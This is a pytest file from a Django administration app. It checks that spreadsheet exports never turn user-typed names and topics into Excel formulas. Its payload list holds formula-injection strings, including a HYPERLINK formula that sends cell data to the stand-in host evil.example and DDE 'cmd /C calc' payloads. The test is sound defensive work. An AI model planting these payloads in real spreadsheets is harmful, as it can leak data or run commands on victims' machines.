"""Check 8 of issue 10: text a user typed never becomes a formula in a downloaded workbook.

Names of people, villages, organizations, townships and meeting topics are set to text
starting with = + - @ tab and CR; every Excel download the app offers (exports and
import templates) is fetched as the county administrator and opened with openpyxl
(formulas kept, not data_only). Figure: 0 formula cells, and the hostile text found
as text.
"""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments.demo import create_scheme
from cadres.models import Meeting
from tests import factories
from villages.choices import OrganizationKind

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EXPORTS = [
    "person-export",
    "member-export",
    "mobile-export",
    "post-export",
    "correction-export",
    "tenure-export",
    "meeting-export",
    "alert-export",
    "township-export",
    "village-export",
    "organization-export",
    "matter-export",
    "report-export",
    "score-export",
    "rating-export",
    "member-template",
    "meeting-template",
]


@pytest.fixture
def hostile(county, township):
    """Each payload as a village, its branch, a member in it and a meeting of the branch."""
    create_scheme(county=county, year=2026)
    township.name = PAYLOADS[0][:50]
    township.save()
    committee = factories.PartyOrganizationFactory(township=township, name="=1+2")
    for i, text in enumerate(PAYLOADS):
        village = factories.VillageFactory(township=township, name=text)
        branch = factories.PartyOrganizationFactory(
            township=township, village=village, parent=committee, kind=OrganizationKind.BRANCH, name=f"{text}支部"
        )
        person = factories.PersonFactory(township=township, village=village, name=text[:20], occupation=text)
        factories.PartyMemberFactory(person=person, organization=branch, township=township, village=village)
        Meeting.objects.create(
            organization=branch,
            township=township,
            village=village,
            kind="party_day",
            held_on=datetime.date(2026, 3, 5) + datetime.timedelta(days=i),
            topic=text,
            entitled=1,
            present=1,
        )
        factories.MonthlyReportFactory(village=village, month=3)
    return township


def downloads(township):
    urls = [reverse(name) for name in EXPORTS]
    urls.append(f"{reverse('report-template')}?year=2026&month=4&township={township.pk}")
    return urls


def test_no_export_turns_typed_text_into_a_formula(client, admin_user, hostile, figure):
    client.force_login(admin_user)
    formulas, cells, texts, fetched = [], 0, set(), []
    for url in downloads(hostile):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), url
        fetched.append(url)
        workbook = load_workbook(io.BytesIO(response.content))  # formulas kept: not data_only
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is None:
                        continue
                    cells += 1
                    if cell.data_type == "f":
                        formulas.append(f"{url} {sheet.title}!{cell.coordinate}: {cell.value!r}")
                    elif isinstance(cell.value, str):
                        texts.add(cell.value)
    figure("formula injection", f"0 formula cells in {len(fetched)} exports, {cells} cells checked")
    assert not formulas, "\n".join(formulas)
    # The hostile text comes back as the text typed (a cell may hold it within more text);
    # a CR reads back as LF, as XML normalizes line ends: still text, never a formula.
    missing = [p for p in PAYLOADS if not any(p.replace("\r", "\n") in t for t in texts)]
    assert not missing, missing
